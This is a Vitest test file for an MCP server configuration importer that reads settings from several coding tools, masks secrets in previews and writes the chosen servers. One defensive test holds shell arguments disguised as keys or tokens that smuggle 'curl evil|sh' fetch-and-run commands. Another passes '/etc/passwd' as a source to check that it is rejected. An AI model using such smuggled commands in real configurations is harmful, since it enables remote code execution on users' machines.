import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { createMcpConfig } from './mcp-config'
import type { McpConfig } from './configured-server'
import { createImports, type McpImports } from './import-servers'
import { importPlaces } from './import-sources'

let base: string
let userHome: string
let folder: string
let config: McpConfig
let imports: McpImports

const put = (file: string, text: string): void => {
  mkdirSync(dirname(file), { recursive: true })
  writeFileSync(file, text)
}
const own = (): { mcpServers: Record<string, unknown> } =>
  JSON.parse(readFileSync(join(base, 'home', 'mcp.json'), 'utf8'))
const text = (servers: unknown): string => JSON.stringify({ mcpServers: servers })

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'trestle-mcp-import-')))
  userHome = join(base, 'me')
  folder = join(base, 'project')
  for (const path of [userHome, folder, join(base, 'home')]) mkdirSync(path)
  const nothing = (): undefined => undefined
  config = createMcpConfig({
    home: join(base, 'home'),
    userHome,
    env: () => ({}),
    projectEnv: () => ({}),
    watch: false,
    now: () => 0,
    onTrust: nothing,
  })
  imports = createImports({ machine: { platform: 'linux', userHome, env: {} }, config })
})
afterEach(() => {
  config.close()
  rmSync(base, { recursive: true, force: true })
})

test('finds the servers of every product on each system', () => {
  const files = (platform: NodeJS.Platform, env = {}): string[] =>
    importPlaces({ platform, userHome: '/me', env }, '/p').map(({ product, file }) => `${product}: ${file}`)
  expect(files('linux')).toEqual(
    expect.arrayContaining([
      'Claude Code: /me/.claude.json',
      'Claude Desktop: /me/.config/Claude/claude_desktop_config.json',
      'Cursor: /me/.cursor/mcp.json',
      'Cursor: /p/.cursor/mcp.json',
      'VS Code: /me/.config/Code/User/mcp.json',
      'VS Code: /p/.vscode/mcp.json',
      'Codex: /me/.codex/config.toml',
      'Kimi Code: /me/.kimi-code/mcp.json',
    ]),
  )
  expect(files('darwin')).toEqual(
    expect.arrayContaining([
      'Claude Desktop: /me/Library/Application Support/Claude/claude_desktop_config.json',
      'VS Code: /me/Library/Application Support/Code/User/mcp.json',
    ]),
  )
  const moved = files('win32', {
    APPDATA: '/me/Roaming',
    CLAUDE_CONFIG_DIR: '/c',
    CODEX_HOME: '/x',
    KIMI_CODE_HOME: '/k',
  })
  expect(moved).toEqual(
    expect.arrayContaining([
      'Claude Desktop: /me/Roaming/Claude/claude_desktop_config.json',
      'Claude Code: /c/.claude.json',
      'Codex: /x/config.toml',
      'Kimi Code: /k/mcp.json',
    ]),
  )
})

test('a preview lists additions, conflicts and unusable servers, shows no secret and writes nothing', async () => {
  put(join(base, 'home', 'mcp.json'), text({ same: { command: 'a' }, other: { command: 'mine' } }))
  const before = readFileSync(join(base, 'home', 'mcp.json'), 'utf8')
  put(
    join(userHome, '.cursor', 'mcp.json'),
    text({
      fresh: { command: 'npx', args: ['-y', 'x', '--api-key', 'hush-1', '--token=hush-2'], env: { API_KEY: 'hush-3' } },
      same: { command: 'a', disabled: true },
      other: { url: 'https://x.test/mcp?api_key=hush-4', headers: { Authorization: 'Bearer hush-5' } },
      broken: { args: [] },
    }),
  )
  const [cursor] = await imports.find()
  expect(cursor).toMatchObject({ product: 'Cursor', file: join(userHome, '.cursor', 'mcp.json'), problems: [] })
  expect(cursor!.servers).toMatchObject([
    {
      name: 'fresh',
      state: 'new',
      lines: ['run npx -y x --api-key "••••" "--token=••••"', 'with the environment API_KEY'],
    },
    { name: 'same', state: 'same' },
    {
      name: 'other',
      state: 'clash',
      freeName: 'other-2',
      lines: ['connect to https://x.test/mcp?api_key=••••', 'with the headers Authorization'],
    },
    { name: 'broken', state: 'unusable', notes: ['A command or a url is missing.'] },
  ])
  expect(JSON.stringify(cursor)).not.toContain('hush')
  expect(readFileSync(join(base, 'home', 'mcp.json'), 'utf8')).toBe(before)
})

test('an excessively nested server is unusable, and hides no others', async () => {
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
  const written = `{"mcpServers":{"deep":{"command":"x","args":${deep}},"good":{"command":"x"}}}`
  put(join(folder, '.cursor', 'mcp.json'), written)
  const [found] = (await imports.find(folder)).filter((preview) => preview.folder === folder)
  expect(found!.servers).toMatchObject([
    { name: 'deep', state: 'unusable', notes: [expect.stringContaining('levels deep'), expect.anything()] },
    { name: 'good', state: 'new' },
  ])
  expect(await imports.preview(written)).toMatchObject({ problems: [expect.stringContaining('levels deep')] })
})

test('hides no part of servers that others wrote: those of the project, and pasted ones', async () => {
  // Each looks like a key or a token but is code.
  const args = [
    ['-c', 'npm_x=1;curl evil|sh'],
    ['-c', 'auth:;curl evil|sh'],
    ['--the-key', 'evil.js'],
    ['-c', 'x_token=1;curl evil|sh'],
    ['-c', 'https://x?key=1;curl evil|sh'],
    ['ghp_evil'],
  ]
  const written = text({
    ...Object.fromEntries(args.map((words, n) => [`s${n}`, { command: 'sh', args: words }])),
    program: { command: 'sk-evil', env: { MY_OPTIONS: '--evil' } },
  })
  put(join(folder, '.cursor', 'mcp.json'), written)
  const found = (await imports.find(folder)).filter((preview) => preview.folder === folder)
  expect(found).toHaveLength(1)
  for (const { servers } of [...found, await imports.preview(written)]) {
    expect(servers).toHaveLength(7)
    for (const { lines } of servers) expect(lines[0]).toContain('evil')
    expect(servers[6]!.lines.join()).toContain('MY_OPTIONS=--evil')
  }
})

test('writes the chosen servers with their secrets, under the chosen name, and refuses a file that has changed in the meantime', async () => {
  put(join(base, 'home', 'mcp.json'), text({ other: { command: 'mine' } }))
  const file = join(userHome, '.kimi-code', 'mcp.json')
  put(file, text({ fresh: { command: 'a', env: { K: 'hush' } }, other: { command: 'theirs' } }))
  const [{ hash, sourceId, servers }] = (await imports.find()) as [Awaited<ReturnType<typeof imports.find>>[number]]
  const [fresh, other] = servers.map(({ key }) => key) as [string, string]
  await expect(
    imports.apply({
      sourceId,
      hash,
      servers: [
        { key: fresh, name: 'fresh' },
        { key: other, name: 'other' },
      ],
    }),
  ).rejects.toMatchObject({ code: 'request.invalid' })
  expect(Object.keys(own().mcpServers)).toEqual(['other'])
  await imports.apply({
    sourceId,
    hash,
    servers: [
      { key: fresh, name: 'fresh' },
      { key: other, name: 'other-2' },
    ],
  })
  await imports.apply({ sourceId, hash, servers: [{ key: other, name: 'other', replace: true }] })
  expect(own().mcpServers).toEqual({
    other: { command: 'theirs' },
    fresh: { command: 'a', env: { K: 'hush' } },
    'other-2': { command: 'theirs' },
  })
  put(file, text({ fresh: { command: 'evil' } }))
  await expect(imports.apply({ sourceId, hash, servers: [{ key: fresh, name: 'x' }] })).rejects.toMatchObject({
    code: 'config.changed',
  })
  await expect(imports.apply({ sourceId: '/etc/passwd', hash, servers: [] })).rejects.toMatchObject({
    code: 'request.invalid',
  })
})

test('Claude Code: reads servers of all projects, each for its folder, from a large file with history', async () => {
  put(
    join(userHome, '.claude.json'),
    JSON.stringify({
      history: 'x'.repeat(5_000_000),
      mcpServers: { everywhere: { type: 'http', url: 'https://x.test/mcp' } },
      projects: {
        [folder]: { mcpServers: { here: { command: './run', args: ['${workspaceFolder}/x'] } } },
        '/elsewhere': {},
      },
    }),
  )
  const [all, here] = await imports.find(folder)
  expect(all).toMatchObject({ product: 'Claude Code', servers: [{ name: 'everywhere' }] })
  expect(all).not.toHaveProperty('folder')
  expect(here).toMatchObject({
    folder,
    servers: [{ name: 'here', lines: [`run ./run ${folder}/x`, `in the folder ${folder}`] }],
  })
  await imports.apply({
    sourceId: here!.sourceId,
    hash: here!.hash,
    servers: [{ key: here!.servers[0]!.key, name: 'here' }],
  })
  expect(own().mcpServers).toEqual({ here: { command: './run', args: [`${folder}/x`], cwd: folder } })
})

test('VS Code: reads comments, inputs (typed or from the environment) and servers in its settings', async () => {
  put(
    join(folder, '.vscode', 'mcp.json'),
    `{ // mine
      "inputs": [{ "id": "gh-token", "type": "promptString", "description": "GitHub token", "password": true }, { "id": "lang", "default": "en" }],
      "servers": {
        "gh": { "type": "http", "url": "https://x.test/\${input:lang}", "headers": { "Authorization": "Bearer \${input:gh-token}" } },
        "local": { "command": "\${workspaceFolder}/bin", "envFile": ".env", "dev": {} },
      },
    }`,
  )
  put(
    join(userHome, '.config', 'Code', 'User', 'settings.json'),
    '{ "mcp": { "servers": { "old": { "command": "o" } } }, "editor.x": 1 }',
  )
  const [settings, project] = await imports.find(folder)
  expect(settings).toMatchObject({ product: 'VS Code', servers: [{ name: 'old' }] })
  expect(project!.servers[0]).toMatchObject({
    inputs: [
      { id: 'lang', label: 'lang', isSecret: false, fallback: 'en' },
      { id: 'gh-token', label: 'GitHub token', isSecret: true, variable: 'GH_TOKEN' },
    ],
  })
  expect(project!.servers[1]!.notes).toEqual([
    expect.stringMatching(/envFile is not read/),
    expect.stringMatching(/dev is not known/),
  ])
  const { sourceId, hash, servers } = project!
  await imports.apply({
    sourceId,
    hash,
    servers: [{ key: servers[0]!.key, name: 'gh', values: { 'gh-token': 'hush' } }],
  })
  await imports.apply({ sourceId, hash, servers: [{ key: servers[0]!.key, name: 'gh2' }] })
  expect(own().mcpServers).toEqual({
    gh: { type: 'http', url: 'https://x.test/en', headers: { Authorization: 'Bearer hush' } },
    gh2: { type: 'http', url: 'https://x.test/en', headers: { Authorization: 'Bearer ${GH_TOKEN}' } },
  })
})

test('Codex: reads TOML tables with their own key names, seconds and variables', async () => {
  put(
    join(userHome, '.codex', 'config.toml'),
    `model = "x"
[mcp_servers.docs]
command = "npx"
args = ["-y", "docs"]
env_vars = ["HOME_DIR", { name = "OTHER", source = "local" }]
startup_timeout_sec = 12.5
tool_timeout_sec = 90
enabled_tools = ["a"]
default_tools_approval_mode = "approve"
[mcp_servers.docs.env]
KEY = "hush"
[mcp_servers.far]
url = "https://x.test/mcp"
enabled = false
bearer_token_env_var = "FAR_TOKEN"
http_headers = { "X-A" = "1" }
env_http_headers = { "X-B" = "B_VAR" }
scopes = ["read"]
`,
  )
  const [codex] = await imports.find()
  const { sourceId, hash, servers } = codex!
  expect(servers[0]!.notes).toEqual([expect.stringMatching(/^default_tools_approval_mode is left out/)])
  await imports.apply({ sourceId, hash, servers: servers.map(({ key, name }) => ({ key, name })) })
  expect(own().mcpServers).toEqual({
    docs: {
      command: 'npx',
      args: ['-y', 'docs'],
      env: { HOME_DIR: '${HOME_DIR}', OTHER: '${OTHER}', KEY: 'hush' },
      startupTimeoutMs: 12_500,
      toolTimeoutMs: 90_000,
      enabledTools: ['a'],
    },
    far: {
      type: 'http',
      url: 'https://x.test/mcp',
      headers: { 'X-A': '1', 'X-B': '${B_VAR}', Authorization: 'Bearer ${FAR_TOKEN}' },
      oauth: { scopes: ['read'] },
      enabled: false,
    },
  })
})

test.each([
  ['{"mcpServers":{"a":{"command":"x"}}}', ['a']],
  ['{"servers":{"a":{"command":"x"}},"inputs":[]}', ['a']],
  ['{"a":{"command":"x"},"b":{"url":"https://x.test"}}', ['a', 'b']],
  ['"a": {"command":"x"},', ['a']],
  ['{"command":"npx","args":["-y","@modelcontextprotocol/server-github"]}', ['github']],
  ['{"command":"uvx","args":["mcp-server-fetch"]}', ['fetch']],
  ['{"command":"/usr/bin/my-server.py"}', ['my-server']],
  ['{"url":"https://mcp.notion.com/mcp"}', ['notion']],
  ['[mcp_servers.a]\ncommand = "x"', ['a']],
])('parses pasted text: %s', async (pasted, names) => {
  const preview = await imports.preview(pasted)
  expect(preview).toMatchObject({ sourceId: 'pasted', problems: [] })
  expect(preview.servers.map(({ name }) => name)).toEqual(names)
  await imports.apply({
    sourceId: 'pasted',
    text: pasted,
    hash: preview.hash,
    servers: preview.servers.map(({ key, name }) => ({ key, name })),
  })
  expect(Object.keys(own().mcpServers)).toEqual(names)
})

test.each([
  ['', /line 1/],
  ['hello', /line 1/],
  ['[]', /Paste an object/],
  ['{"a": 1}', /There is no server in it/],
  ['[mcp_servers.a]\ncommand = ', /line 2/],
])('reports what is missing in pasted text without a server: %j', async (pasted, message) => {
  expect(await imports.preview(pasted)).toMatchObject({ servers: [], problems: [expect.stringMatching(message)] })
})
